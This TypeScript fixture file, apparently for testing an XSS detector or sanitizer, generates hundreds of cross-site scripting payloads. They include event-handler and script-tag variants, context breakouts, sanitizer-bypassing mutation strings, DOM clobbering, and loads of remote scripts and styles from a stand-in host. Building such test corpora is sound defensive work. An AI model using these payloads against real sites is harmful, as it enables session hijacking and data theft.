/**
 * HTML that runs a script when inserted unsanitized, built by grammar: element × event × separator
 * × quote × case. `§` stands for the call to the detector.
 */

/** Fires by itself, or after the test's interaction. [start of the tag, event, rest] */
const HANDLERS: readonly (readonly [string, string, string])[] = [
  ['img src=x', 'onerror', '>'],
  ['img src=/favicon.ico', 'onload', '>'],
  ['img srcset=x', 'onerror', '>'],
  ['svg', 'onload', '>'],
  ['svg', 'onload', '></svg>'],
  ['body', 'onload', '>'],
  ['body', 'onpageshow', '>'],
  ['body', 'onhashchange', '>'],
  ['input autofocus', 'onfocus', '>'],
  ['select autofocus', 'onfocus', '></select>'],
  ['textarea autofocus', 'onfocus', '></textarea>'],
  ['button autofocus', 'onfocus', '>x</button>'],
  ['div tabindex=0 autofocus', 'onfocus', '>x</div>'],
  ['div contenteditable autofocus', 'onfocusin', '>x</div>'],
  ['details open', 'ontoggle', '>x</details>'],
  ['video src=x', 'onerror', '></video>'],
  ['video', 'onloadstart', '><source src=x></video>'],
  ['audio src=x', 'onerror', '></audio>'],
  ['video><source', 'onerror', ' src=x></video>'],
  ['picture><source srcset=x><img src=x', 'onerror', '></picture>'],
  ['iframe', 'onload', '></iframe>'],
  ['iframe src=about:blank', 'onload', '></iframe>'],
  ['object data=x', 'onerror', '></object>'],
  ['embed src=/', 'onload', '>'],
  ['link rel=stylesheet href=/none.css', 'onerror', '>'],
  ['link rel=preload as=image href=x', 'onerror', '>'],
  ['style', 'onload', '></style>'],
  ['script src=/none.js', 'onerror', '></script>'],
  ['marquee', 'onstart', '>x</marquee>'],
  ['marquee loop=1 width=0', 'onfinish', '>x</marquee>'],
  ['svg><animate', 'onbegin', ' attributeName=x dur=1s></svg>'],
  ['svg><animate', 'onend', ' attributeName=x dur=1ms></svg>'],
  ['svg><set', 'onbegin', ' attributeName=x to=1></svg>'],
  ['svg><animateTransform', 'onbegin', ' attributeName=transform dur=1s></svg>'],
  ['svg><discard', 'onbegin', '></svg>'],
  ['svg><image href=x', 'onerror', '></svg>'],
  ['math><mi tabindex=0 autofocus', 'onfocus', '>x</mi></math>'],
  ['style>@keyframes k{}</style><b style="animation:k 1ms"', 'onanimationstart', '>x</b>'],
  ['b style="animation:k 1ms"', 'onanimationend', '>x</b>'],
  ['b style="transition:1ms"', 'ontransitionend', '>x</b>'],
  [
    'b style="display:block;content-visibility:auto"',
    'oncontentvisibilityautostatechange',
    '>x</b>',
  ],
  ['b style="position:fixed;inset:0;z-index:99999"', 'onmouseover', '>x</b>'],
  ['b', 'onpointerenter', '>x</b>'],
  ['a href=#', 'onclick', '>x</a>'],
  ['b', 'oncopy', '>x</b>'],
  ['b', 'onwheel', '>x</b>'],
  ['form', 'onsubmit', '><button>x</button></form>'],
  ['form', 'onreset', '><input type=reset></form>'],
  ['input', 'oninput', '>'],
  ['input type=checkbox', 'onchange', '>'],
  ['dialog open', 'onclose', '><form method=dialog><button>x</button></form></dialog>'],
  ['b popover', 'onbeforetoggle', '>x</b>'],
  ['custom-element tabindex=0', 'onfocus', '>x</custom-element>'],
];

const OUTSIDE = 'https://canary.invalid/§N';

const mixCase = (text: string): string =>
  [...text].map((character, i) => (i % 2 ? character.toUpperCase() : character)).join('');

const uppercaseNames = (html: string): string =>
  html.replaceAll(/<\/?[a-z][\w-]*|\son\w+(?==)/gi, (name) => name.toUpperCase());

const addHandler = (
  [tag, event, rest]: readonly [string, string, string],
  separator: string,
  quote: string,
): string => `<${tag}${separator}${event}=${quote}§${quote}${rest}`;

/** Every element and event once, in the plain form. */
const plainHandlers = HANDLERS.map((item) => addHandler(item, ' ', ''));

/**
 * A few of them with every separator and quote that an HTML parser accepts, and some that it does
 * not.
 */
const written = [0, 3, 8, 14, 20].flatMap((at) => {
  const one = HANDLERS[at];
  if (!one) return [];
  const separators = ['/', '\t', '\n', '\f', '\r\n', '  / ', '/x=1 ', '\u00a0', '\u000b', '"'];
  const quotes = ['"', "'", '`'];
  return [
    ...separators.map((separator) => addHandler(one, separator, '')),
    ...quotes.map((quote) => addHandler(one, ' ', quote)),
    addHandler(one, '\n/\t', '"'),
    addHandler([one[0], `${one[1]} `, one[2]], ' ', '"'),
    addHandler([one[0], `${one[1]}\n`, one[2]], ' ', "'"),
    addHandler([one[0], mixCase(one[1]), one[2]], ' ', ''),
    uppercaseNames(addHandler(one, ' ', '"')),
    addHandler([mixCase(one[0]), one[1].toUpperCase(), one[2]], ' ', ''),
    addHandler(one, ' ', '').replace('§', '&#95;&#x5f;xss&lpar;§N&rpar;'),
    addHandler(one, ' ', '"').replace('§', '\\u005f_xss(§N)'),
    addHandler(one, ' ', '"').replace('§', 'window[&quot;__xs&quot;+&quot;s&quot;](§N)'),
    addHandler(one, ' ', '"').replace('§', 'top.__xss`§N`'),
    addHandler(one, ' ', '"').replace('§', 'eval(&apos;__xss(§N)&apos;)'),
    addHandler(one, ' ', '"').replace('§', 'setTimeout(&apos;__xss(§N)&apos;)'),
    addHandler(one, ' ', '"').replace('§', 'Function(&apos;__xss(§N)&apos;)()'),
    addHandler(one, ' ', '"').replace('§', 'import(&apos;data:text/javascript,__xss(§N)&apos;)'),
    addHandler(one, ' ', '').replace('§', 'alert(§N)'),
    addHandler(one, ' ', '').replace(/>$/, ''),
    `<${addHandler(one, ' ', '')}`,
    addHandler(one, ' ', '').replace('<', '<\u0001'),
    addHandler(one, ' ', '').replace('<', '< '),
    addHandler(one, ' ', '').replace('<', '<!---><'),
    addHandler(one, ' ', '').replace('<', '<x><'),
  ];
});

const scripts = [
  '<script>§</script>',
  '<SCRIPT>§</SCRIPT>',
  '<sCrIpT>§</sCrIpT>',
  '<script >§</script >',
  '<script\n>§</script\n>',
  '<script/x>§</script/x>',
  '<script\t type=text/javascript>§</script>',
  '<script type=module>§</script>',
  '<script type=text/ecmascript>§</script>',
  '<script type="application/ld+json">{}</script><script>§</script>',
  '<script async defer>§</script>',
  '<script nonce="">§</script>',
  '<script nonce>§</script>',
  '<script>§',
  '<script>§//',
  '<script>§<!--',
  '<script>/*</script><script>*/§</script>',
  '<script><!--\n§\n--></script>',
  '<script>//<![CDATA[\n§//]]></script>',
  '<scr<script>ipt>§</scr</script>ipt>',
  '<<script>§//<</script>',
  '<script src=data:text/javascript,§></script>',
  `<script src=${OUTSIDE}></script>`,
  `<script src=//canary.invalid/§N></script>`,
  `<script src="\\\\canary.invalid/§N"></script>`,
  '<script src=/np/api/common></script>',
  '<script>import("data:text/javascript,__xss(§N)")</script>',
  `<script type=importmap>{"imports":{"a":"${OUTSIDE}"}}</script>`,
  '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://canary.invalid/"]}]}</script>',
  '<svg><script>§</script></svg>',
  '<svg><script>&#95;&#95;xss(§N)</script></svg>',
  '<svg><script href=data:text/javascript,§ /></svg>',
  '<svg><script xlink:href=data:text/javascript,§></script></svg>',
  '<math><script>§</script></math>',
  '<svg><![CDATA[</svg><script>§</script>]]></svg>',
  '<svg><style><script>§</script></style></svg>',
  '<html><head><script>§</script></head></html>',
  '<table><script>§</script></table>',
  '<select><script>§</script></select>',
  '<template><script>§</script></template>',
  '<noscript><script>§</script></noscript>',
  '<xml><script>§</script></xml>',
  '<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">§</script>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">§</x:script>',
  '\ufeff<script>§</script>',
  '<ſcript>§</ſcript>',
  '＜script＞§＜/script＞',
  '\u202e<script>§</script>',
  '<\u00adscript>§</\u00adscript>',
  '<script\u2028>§</script\u2028>',
  '<script\u0001>§</script>',
];

/** Closes the surrounding context, then runs. */
const CLOSERS = [
  '"', "'", '`', '">', "'>", '"/>', "'/>", '" ', "' ", '"\n', '\\">', "\\'>",
  '-->', '--!>', '<!-->', ']]>', '?>', '%>', '</', '</title>', '</textarea>', '</style>', '</script>',
  '</noscript>', '</template>', '</iframe>', '</xmp>', '</noembed>', '</noframes>', '</svg>', '</math>',
  '</select>', '</option>', '</button>', '</a>', '</p>', '</h1>', '</head>', '</body></html>', '</pre></code>',
]; // prettier-ignore

const breakouts = CLOSERS.flatMap((closer) => [
  `${closer}<img src=x onerror=§>`,
  `${closer}<script>§</script>`,
  ...(/["'`]/.test(closer) ? [`${closer} onfocus=§ autofocus tabindex=0 x=${closer[0]}`] : []),
]);

/**
 * Survives a sanitizer that parses differently from the browser, or changes when serialized and
 * parsed again.
 */
const mutations = [
  '<svg></p><style><g title="</style><img src=x onerror=§>">',
  '<svg><p><style><g title="</style><img src=x onerror=§>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=§&gt;">',
  '<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img src=x onerror=§>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=§></style></annotation-xml></math>',
  '<math><mi><style><!--</mi><img src=x onerror=§>--></style></math>',
  '<svg><foreignObject><style><!--</foreignObject><img src=x onerror=§></style></svg>',
  '<svg><desc><style><a title="</style><img src=x onerror=§>"></desc></svg>',
  '<svg><title><style><a title="</title><img src=x onerror=§>"></svg>',
  '<noscript><p title="</noscript><img src=x onerror=§>">',
  '<title><a title="</title><img src=x onerror=§>">',
  '<textarea><a title="</textarea><img src=x onerror=§>">',
  '<xmp><a title="</xmp><img src=x onerror=§>">',
  '<iframe><a title="</iframe><img src=x onerror=§>">',
  '<noembed><a title="</noembed><img src=x onerror=§>">',
  '<listing>&lt;img src=x onerror=§&gt;</listing>',
  '<template><a title="</template><img src=x onerror=§>">',
  '<select><template><style><!--</style></template><img src=x onerror=§></select>',
  '<table><td><a><table><img src=x onerror=§></table>',
  '<a><b><a><img src=x onerror=§></b></a>',
  '<img alt="`onerror=§ src=x `">',
  '<img alt=`<img src=x onerror=§>`>',
  '<a title="&lt;img src=x onerror=§&gt;">x</a>',
  '<svg><a><style></a><img src=x onerror=§></style></svg>',
  '<comment><img src="</comment><img src=x onerror=§>">',
  '<![><img src="]><img src=x onerror=§//">',
  '<!--[if IE]><img src=x onerror=§><![endif]-->',
  '<!--<img src="--><img src=x onerror=§//">',
  '<!doctype html><img src=x onerror=§>',
  '<image src=x onerror=§>',
  '<isindex type=image src=x onerror=§>',
  '<frameset onload=§><frame></frameset>',
  '<plaintext-like><img src=x onerror=§>',
];

const pollution = [
  '<form id=document><input name=cookie></form>',
  '<form id=__xss></form><a id=__xss></a>',
  '<img name=getElementById><img name=querySelector>',
  '<form name=body><input name=appendChild></form>',
  '<a id=config><a id=config name=url href=javascript:§>',
  '<input id=attributes name=attributes form=x><form id=x></form>',
  '<iframe name=self srcdoc="<script>parent.__xss(§N)</script>"></iframe>',
  `<base href=${OUTSIDE}>`,
  `<base target=_self><base href="javascript:§//">`,
  '<meta http-equiv=refresh content="0;url=javascript:§">',
  '<meta http-equiv=refresh content="0;url=data:text/html,<script>__xss(§N)</script>">',
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
  '<meta name=referrer content=unsafe-url>',
  `<link rel=prefetch href=${OUTSIDE}>`,
  `<link rel=manifest href=${OUTSIDE}>`,
  `<link rel=import href=${OUTSIDE}>`,
  `<style>@import '${OUTSIDE}';</style>`,
  `<style>*{background:url(${OUTSIDE})}</style>`,
  `<style>@font-face{font-family:x;src:url(${OUTSIDE})}*{font-family:x}</style>`,
  `<link rel=stylesheet href=${OUTSIDE}>`,
  '<link rel=stylesheet href="data:text/css,*{color:red}">',
  `<b style="background:url(${OUTSIDE})">x</b>`,
  '<b style="background:url(javascript:§)">x</b>',
  '<b style="width:expression(§)">x</b>',
  '<b style="width:ex/**/pression(§)">x</b>',
  '<b style="-moz-binding:url(data:text/xml,§)">x</b>',
  '<b style="behavior:url(#default#time2)" onbegin=§>x</b>',
  '<style>b{x:expression(§)}</style><b>x</b>',
  `<img src=${OUTSIDE}>`,
  `<img src=x: srcset="${OUTSIDE} 1x">`,
  `<video poster=${OUTSIDE}></video>`,
  `<table background=${OUTSIDE}><td>x</td></table>`,
  `<iframe src=${OUTSIDE}></iframe>`,
  `<object data=${OUTSIDE}></object>`,
  `<embed src=${OUTSIDE}>`,
  `<svg><image href=${OUTSIDE} /></svg>`,
  `<svg><use href=${OUTSIDE}#x /></svg>`,
  `<svg><feImage href=${OUTSIDE} /></svg>`,
  `<form action=${OUTSIDE}><button autofocus>x</button></form>`,
  `<a ping=${OUTSIDE} href=#>x</a>`,
];

const text = {
  html: [...plainHandlers, ...written, ...scripts, ...mutations, ...pollution],
  breakouts,
};

export const HTML_VECTORS: readonly string[] = text.html;
export const BREAKOUTS: readonly string[] = text.breakouts;
